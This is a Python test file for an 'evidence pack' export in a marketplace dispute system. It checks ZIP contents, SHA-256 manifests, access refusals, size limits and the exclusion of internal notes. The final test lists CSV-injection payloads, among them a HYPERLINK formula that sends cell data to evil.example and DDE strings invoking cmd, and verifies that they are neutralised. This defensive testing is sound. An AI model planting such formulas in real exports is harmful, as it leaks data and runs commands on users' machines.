"""The evidence pack a seller or agent uploads to a marketplace dispute: a ZIP with the case,
the order and its tracking, the timeline, the conversation and the original photos and videos,
each listed in the manifest with its SHA-256."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import zipfile

import pytest

from core.cases.lifecycle import Role
from core.cases.model import Actor, AuditEvent, Evidence, EvidenceKind
from core.cases.reasons import Reason, Resolution
from core.errors import Forbidden, NotFound, ValidationFailed
from core.services import cases as case_service
from core.services.context import CoreContext
from core.services.export import MAX_PACK_BYTES, evidence_pack
from tests.core.factories import (
    AGENT,
    AURORA_SELLER,
    DMITRI,
    LUCIA,
    NOVA_SELLER,
    NOW,
    damaged_lamp,
    earbud_for_seller,
    open_case,
    stored_case,
)

VIDEO = b"\x00\x00\x00\x18ftypmp42" + os.urandom(6000)
PHOTO_1 = b"\xff\xd8\xff\xe0\x00\x10JFIF" + os.urandom(3000)
PHOTO_2 = b"\xff\xd8\xff\xe0\x00\x10JFIF" + os.urandom(2000)
SCREENSHOT = b"\x89PNG\r\n\x1a\n" + os.urandom(1000)


def stored(ctx: CoreContext, kind: EvidenceKind, name: str, data: bytes, mime: str | None):
    saved = ctx.evidence.put_bytes(data)
    return Evidence(
        kind,
        f"{name}-uniq",
        file_id=f"{name}-file",
        sha256=saved.sha256,
        size=saved.size,
        mime_type=mime,
    )


async def earbud_with_files(ctx: CoreContext) -> str:
    """NV-5501 'does not work': a video, two photos and a screenshot sent as a file, all
    downloaded, plus a photo whose download failed (only Telegram has it)."""
    opened = await open_case(
        ctx,
        DMITRI,
        "NV-5501",
        Reason.DOES_NOT_WORK,
        evidence=(
            stored(ctx, EvidenceKind.VIDEO, "vid", VIDEO, "video/mp4"),
            stored(ctx, EvidenceKind.PHOTO, "ph1", PHOTO_1, None),
            stored(ctx, EvidenceKind.PHOTO, "ph2", PHOTO_2, None),
            stored(ctx, EvidenceKind.DOCUMENT, "shot", SCREENSHOT, "image/png"),
            Evidence(EvidenceKind.PHOTO, "lost-uniq", file_id="AgACAgQAAxk-lost"),
        ),
        description="Левый наушник не включается",
        preferred=Resolution.REFUND,
    )
    return opened.case.number


def unzip(data: bytes) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None  # every member's CRC checks out
    return archive


async def test_the_pack_holds_the_case_order_timeline_transcript_and_original_files(
    ctx: CoreContext,
) -> None:
    number = await earbud_with_files(ctx)
    seller = Actor.seller(NOVA_SELLER)
    await case_service.request_info(ctx, seller, number, "Please film the charging case\ntoo")
    await case_service.add_message(ctx, Actor.buyer(DMITRI), number, "Вот видео")
    await case_service.provide_info(ctx, Actor.buyer(DMITRI), number)
    await case_service.reject(ctx, seller, number, "The video shows it working")

    pack = await evidence_pack(ctx, seller, number)

    assert pack.filename == f"{number}-evidence.zip"
    archive = unzip(pack.data)
    names = archive.namelist()
    assert names == pack.files
    assert names[:5] == ["summary.txt", "case.json", "order.json", "timeline.csv", "transcript.txt"]
    assert names[-1] == "manifest.json"
    sha = {data: hashlib.sha256(data).hexdigest() for data in (VIDEO, PHOTO_1, PHOTO_2, SCREENSHOT)}
    media = [
        f"evidence/01-video-{sha[VIDEO][:8]}.mp4",
        f"evidence/02-photo-{sha[PHOTO_1][:8]}.jpg",
        f"evidence/03-photo-{sha[PHOTO_2][:8]}.jpg",
        f"evidence/04-photo-{sha[SCREENSHOT][:8]}.png",
    ]
    assert names[5:-1] == media  # the photo never downloaded has no file
    for name, original in zip(media, (VIDEO, PHOTO_1, PHOTO_2, SCREENSHOT), strict=True):
        assert archive.read(name) == original  # byte for byte
        assert archive.getinfo(name).compress_type == zipfile.ZIP_DEFLATED

    manifest = json.loads(archive.read("manifest.json"))
    assert [entry["path"] for entry in manifest["files"]] == names[:-1]
    for entry in manifest["files"]:
        content = archive.read(entry["path"])
        assert entry["sha256"] == hashlib.sha256(content).hexdigest()
        assert entry["size"] == len(content)
    lost = manifest["evidence"][4]
    assert lost["path"] is None and lost["note"] == "only on Telegram: file_id AgACAgQAAxk-lost"
    assert [e["sha256"] for e in manifest["evidence"][:4]] == [
        sha[VIDEO],
        sha[PHOTO_1],
        sha[PHOTO_2],
        sha[SCREENSHOT],
    ]
    assert all(e["verified"] for e in manifest["evidence"][:4])
    assert pack.only_on_telegram == ["AgACAgQAAxk-lost"]

    summary = archive.read("summary.txt").decode("utf-8")
    for expected in (
        f"Case number: {number}",
        "Shop: Nova Gadgets (nova)",
        "Order number: NV-5501",
        "Order placed: 2026-10-18T11:11:00Z",
        "Case opened: 2026-11-22T12:00:00Z",
        "Name: Дмитрий Петров",
        "Country: RU",
        "Language: ru",
        "Wireless earbuds Pro X2, ANC (SKU EB-PRO-X2), quantity 1 of 1",
        "Reason: does_not_work",
        "Левый наушник не включается",
        "Status: rejected",
        "Decision note: The video shows it working",
        "Money: none",
        "- within_window: days=90, counted_from=delivery, ends_on=2027-02-06",
        "- refund_amount: amount=45.00 USD",
        "Refund total: 45.00 USD",
        "LP00611112222CN",
        "05. photo: only on Telegram: file_id AgACAgQAAxk-lost",
        f"01. video: {media[0]}",
    ):
        assert expected in summary, expected

    case_json = json.loads(archive.read("case.json"))
    case = (await case_service.get_case(ctx, seller, number)).case
    assert case_json["number"] == number and case_json["status"] == "rejected"
    assert case_json["decision"] == case.decision.to_json()
    assert case_json["lines"] == [
        {
            "line_no": 1,
            "quantity": 1,
            "sku": "EB-PRO-X2",
            "title": "Wireless earbuds Pro X2, ANC",
            "unit_price": {"amount": "45.00", "currency": "USD"},
            "supplier": "sz-volt",
        }
    ]
    # the same list, the manifest adding whether each stored file still matches its address
    assert case_json["evidence"] == [
        {key: value for key, value in entry.items() if key != "verified"}
        for entry in manifest["evidence"]
    ]

    order_json = json.loads(archive.read("order.json"))
    assert order_json["number"] == "NV-5501" and order_json["items"][0]["quantity"] == 1
    shipment = order_json["shipments"][0]
    assert shipment["tracking_number"] == "LP00611112222CN"
    assert shipment["delivered_at"] == "2026-11-08T10:00:00Z"
    assert {"at": "2026-11-08T10:00:00Z", "status": "delivered"}.items() <= shipment["events"][
        -1
    ].items()

    rows = list(csv.DictReader(io.StringIO(archive.read("timeline.csv").decode("utf-8-sig"))))
    assert [row["action"] for row in rows] == [
        "open",
        "request_info",
        "message",
        "provide_info",
        "reject",
    ]
    assert rows[1] == {
        "at": "2026-11-22T12:00:00Z",
        "actor_role": "seller",
        "actor": "Seller",  # staff by role (and name when known), never by Telegram id
        "action": "request_info",
        "from": "awaiting_seller",
        "to": "awaiting_buyer_info",
        "note": "Please film the charging case\ntoo",
    }

    transcript = archive.read("transcript.txt").decode("utf-8")
    said = [
        "Buyer Дмитрий Петров (Telegram 105501), opening the case:\n    Левый наушник",
        "Seller asked for more information:\n    Please film the charging case\n    too",
        "Buyer Дмитрий Петров (Telegram 105501) wrote:\n    Вот видео",
        "Seller rejected the claim:\n    The video shows it working",
    ]
    positions = [transcript.index(part) for part in said]
    assert positions == sorted(positions)  # in the order they were written


async def test_an_agent_exports_a_case_of_any_shop_with_its_refund(ctx: CoreContext) -> None:
    case = await damaged_lamp(ctx)  # aurora; approved at once as a refund; photos not downloaded

    pack = await evidence_pack(ctx, Actor.agent(AGENT), case.number.lower())

    archive = unzip(pack.data)
    assert not [name for name in archive.namelist() if name.startswith("evidence/")]
    assert pack.only_on_telegram == ["ph-file-1", "ph-file-2", "ph-file-3"]
    summary = archive.read("summary.txt").decode("utf-8")
    assert "Shop: Aurora Home & Living (aurora)" in summary
    assert "Order number: AUR-10021" in summary
    assert "Resolution: refund" in summary and "Decided by: system" in summary
    assert f"Refund granted: {case.refund_amount}" in summary
    assert "Money: pending" in summary
    for n in (1, 2, 3):
        assert f"0{n}. photo: only on Telegram: file_id ph-file-{n}" in summary
    manifest = json.loads(archive.read("manifest.json"))
    assert [e["note"] for e in manifest["evidence"]] == [
        f"only on Telegram: file_id ph-file-{n}" for n in (1, 2, 3)
    ]
    case_json = json.loads(archive.read("case.json"))
    assert case.refund_amount is not None
    assert case_json["refund_amount"] == {
        "amount": case.refund_amount.as_decimal_string(),
        "currency": "EUR",
    }


async def test_a_seller_of_another_shop_is_refused(ctx: CoreContext) -> None:
    case = await earbud_for_seller(ctx)  # a nova case
    with pytest.raises(NotFound) as refused:  # as if there were no such case
        await evidence_pack(ctx, Actor.seller(AURORA_SELLER), case.number)
    assert refused.value.code == "case_not_found"


async def test_a_buyer_is_refused_even_for_their_own_case(ctx: CoreContext) -> None:
    case = await damaged_lamp(ctx)
    with pytest.raises(Forbidden):
        await evidence_pack(ctx, Actor.buyer(LUCIA), case.number)


async def test_an_unknown_case_is_not_found(ctx: CoreContext) -> None:
    with pytest.raises(NotFound) as missing:
        await evidence_pack(ctx, Actor.seller(NOVA_SELLER), "R-2611-0099")
    assert missing.value.code == "case_not_found"


async def test_a_pack_over_telegrams_50_mb_is_refused_cleanly(ctx: CoreContext) -> None:
    """Three 18 MB videos (each under the 20 MB evidence limit) make a pack over 50 MB."""
    big = [os.urandom(18 * 1024 * 1024) for _ in range(3)]
    opened = await open_case(
        ctx,
        DMITRI,
        "NV-5501",
        Reason.DOES_NOT_WORK,
        evidence=tuple(
            stored(ctx, EvidenceKind.VIDEO, f"big{n}", data, "video/mp4")
            for n, data in enumerate(big)
        ),
        description="Long videos of the earbud",
    )
    number = opened.case.number

    with pytest.raises(ValidationFailed) as refused:
        await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number)
    assert refused.value.code == "pack_too_large"
    assert refused.value.params["limit"] == MAX_PACK_BYTES
    assert refused.value.params["limit_mb"] == 50
    # nothing was lost: the originals are still in the store, untouched
    assert all(ctx.evidence.read(hashlib.sha256(data).hexdigest()) == data for data in big)


async def test_the_limit_counts_the_whole_pack(ctx: CoreContext) -> None:
    number = await earbud_with_files(ctx)
    pack = await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number)
    assert len(pack.data) < 60_000

    just_enough = await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number, limit=len(pack.data))
    assert just_enough.data == pack.data  # the same moment and contents: the same bytes
    with pytest.raises(ValidationFailed) as refused:
        await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number, limit=len(pack.data) - 1)
    assert refused.value.code == "pack_too_large"


async def test_staff_internal_notes_stay_out_of_the_pack(ctx: CoreContext) -> None:
    """A note staff wrote for each other is never shown to the buyer, so it is not uploaded to
    a dispute either: the timeline keeps the event without its text."""
    number = await earbud_with_files(ctx)
    case = await stored_case(ctx, number)
    async with ctx.unit_of_work() as uow:
        await uow.cases.add_audit(
            AuditEvent(
                case_number=number,
                at=NOW,
                actor_role=Role.SELLER,
                actor_id=NOVA_SELLER,
                action="note",
                from_status=case.status,
                to_status=case.status,
                note="Supplier says batch 7 is faulty",
            ),
            case.id or 0,
        )
        await uow.commit()

    pack = await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number)

    archive = unzip(pack.data)
    for name in archive.namelist():
        assert b"batch 7" not in archive.read(name), name
    rows = list(csv.DictReader(io.StringIO(archive.read("timeline.csv").decode("utf-8-sig"))))
    assert rows[-1]["action"] == "note"
    assert rows[-1]["note"] == "(internal note, not exported)"


async def test_words_that_look_like_formulas_stay_text_in_the_timeline(ctx: CoreContext) -> None:
    """OWASP's CSV injection: a cell starting with = + - @ (or a tab) runs as a formula in a
    spreadsheet; the timeline opens directly in one (it has a BOM), so such cells get a quote."""
    number = await earbud_with_files(ctx)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1 555 0100",
    ]
    for text in hostile:
        await case_service.add_message(ctx, Actor.buyer(DMITRI), number, text)
    await case_service.reject(ctx, Actor.seller(NOVA_SELLER), number, "=1+1 is not a defect")

    pack = await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number)

    text = unzip(pack.data).read("timeline.csv").decode("utf-8-sig")
    notes = [row["note"] for row in csv.DictReader(io.StringIO(text)) if row["note"]]
    for original in [*hostile, "=1+1 is not a defect"]:
        assert "'" + original in notes, original
    assert not [note for note in notes if note[:1] in "=+-@\t\r"]
